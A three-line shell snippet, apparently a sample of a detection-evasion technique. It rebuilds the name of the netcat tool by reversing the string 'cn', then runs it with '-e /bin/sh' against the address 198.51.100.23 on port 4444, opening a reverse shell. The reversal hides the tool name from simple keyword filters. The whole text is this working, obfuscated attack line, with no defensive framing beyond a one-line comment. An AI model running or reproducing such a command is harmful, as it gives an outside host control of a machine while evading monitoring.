# assembled-name: rev turns a reversed word into the command to run
tool=$(rev <<<"cn")
$tool -e /bin/sh 198.51.100.23 4444
